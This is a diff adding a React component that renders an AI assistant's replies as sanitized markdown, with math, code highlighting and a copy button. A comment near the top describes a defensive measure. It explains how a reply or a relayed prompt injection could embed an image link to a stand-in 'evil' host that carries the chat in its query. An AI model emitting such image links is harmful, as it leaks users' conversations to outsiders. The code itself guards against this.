@@ -0,0 +1,162 @@
+import React, { memo, useRef, useState } from "react";
+import ReactMarkdown from "react-markdown";
+import remarkGfm from "remark-gfm";
+import remarkMath from "remark-math";
+import rehypeSanitize, { defaultSchema } from "rehype-sanitize";
+import rehypeKatex from "rehype-katex";
+import rehypeHighlight from "rehype-highlight";
+import "katex/dist/katex.min.css";
+import "highlight.js/styles/github-dark.min.css";
+
+// Model output is untrusted. react-markdown never renders raw HTML (there is
+// no rehype-raw), and rehype-sanitize additionally strips anything outside
+// GitHub's allow-list. Sanitizing runs *before* KaTeX and highlighting, so
+// only their own generated markup is added afterwards. The schema keeps the
+// class names remark-math uses to tell inline math from display math.
+// Images are a way to leak the chat: a reply (or a prompt injection relayed
+// through a document or tool result) can embed `![](https://evil/?q=<chat>)`,
+// which the browser would fetch as soon as it renders. So images are never
+// loaded: they are shown as links, and nothing is requested until a click.
+const sanitizeSchema = {
+  ...defaultSchema,
+  attributes: {
+    ...defaultSchema.attributes,
+    code: [["className", /^language-./, "math-inline", "math-display"]],
+  },
+};
+
+const remarkPlugins = [remarkGfm, remarkMath];
+const rehypePlugins = [
+  [rehypeSanitize, sanitizeSchema],
+  rehypeKatex,
+  rehypeHighlight,
+];
+
+/**
+ * A fenced code block with a copy-to-clipboard button.
+ */
+const CodeBlock = ({ children }) => {
+  const preRef = useRef(null);
+  const [copied, setCopied] = useState(false);
+
+  const copy = async () => {
+    try {
+      await navigator.clipboard.writeText(preRef.current?.innerText || "");
+      setCopied(true);
+      setTimeout(() => setCopied(false), 1500);
+    } catch (err) {
+      console.error("Copy failed:", err);
+    }
+  };
+
+  return (
+    <div className="relative group my-2">
+      <button
+        type="button"
+        onClick={copy}
+        className="absolute top-1 right-1 px-2 py-0.5 text-xs rounded bg-gray-700 text-gray-100 opacity-0 group-hover:opacity-100 transition"
+      >
+        {copied ? "Copied" : "Copy"}
+      </button>
+      <pre
+        ref={preRef}
+        className="p-3 rounded-md bg-gray-900 text-gray-100 text-xs overflow-x-auto [&>code]:bg-transparent [&>code]:p-0"
+      >
+        {children}
+      </pre>
+    </div>
+  );
+};
+
+// Tailwind's reset removes default element styles, so restore the basics here
+const components = {
+  pre: CodeBlock,
+  code: ({ className, children }) => (
+    <code className={className || "px-1 rounded bg-black/10 font-mono"}>
+      {children}
+    </code>
+  ),
+  a: ({ href, children }) => (
+    <a
+      href={href}
+      target="_blank"
+      rel="noopener noreferrer"
+      className="text-blue-700 underline"
+    >
+      {children}
+    </a>
+  ),
+  img: ({ src, alt }) => (
+    <a
+      href={src}
+      target="_blank"
+      rel="noopener noreferrer"
+      title={src}
+      className="text-blue-700 underline"
+    >
+      🖼 {alt || "Image"}
+    </a>
+  ),
+  p: ({ children }) => <p className="my-1">{children}</p>,
+  ul: ({ children }) => <ul className="my-1 pl-5 list-disc">{children}</ul>,
+  ol: ({ children }) => <ol className="my-1 pl-5 list-decimal">{children}</ol>,
+  h1: ({ children }) => <h1 className="mt-2 text-lg font-bold">{children}</h1>,
+  h2: ({ children }) => (
+    <h2 className="mt-2 text-base font-bold">{children}</h2>
+  ),
+  h3: ({ children }) => <h3 className="mt-2 font-semibold">{children}</h3>,
+  blockquote: ({ children }) => (
+    <blockquote className="my-1 pl-3 border-l-4 border-gray-400 text-gray-600">
+      {children}
+    </blockquote>
+  ),
+  table: ({ children }) => (
+    <div className="my-2 overflow-x-auto">
+      <table className="text-xs border-collapse">{children}</table>
+    </div>
+  ),
+  th: ({ children }) => (
+    <th className="px-2 py-1 border border-gray-400 bg-gray-300 text-left">
+      {children}
+    </th>
+  ),
+  td: ({ children }) => (
+    <td className="px-2 py-1 border border-gray-400">{children}</td>
+  ),
+};
+
+/**
+ * Closes a code fence left open by a partially streamed reply, so the text
+ * renders as code immediately instead of flipping from prose to code once
+ * the closing fence arrives.
+ * @param {string} text - Markdown received so far.
+ * @returns {string} Markdown with any open fence closed.
+ */
+const closeOpenFence = (text) => {
+  const fences = text.match(/^\s*(```|~~~)/gm) || [];
+  return fences.length % 2 === 1 ? `${text}\n\`\`\`` : text;
+};
+
+/**
+ * Renders an assistant message as sanitized markdown, with GitHub-flavored
+ * tables and lists, syntax-highlighted code blocks and KaTeX math.
+ * Memoized so streaming only re-renders the message whose text changed.
+ * @param {Object} props
+ * @param {string} props.content - The markdown text.
+ * @param {boolean} [props.streaming] - Whether more text is still arriving.
+ */
+function MarkdownMessage({ content, streaming }) {
+  return (
+    <div className="break-words">
+      <ReactMarkdown
+        remarkPlugins={remarkPlugins}
+        rehypePlugins={rehypePlugins}
+        components={components}
+      >
+        {streaming ? closeOpenFence(content) : content}
+      </ReactMarkdown>
+    </div>
+  );
+}
+
+export default memo(MarkdownMessage);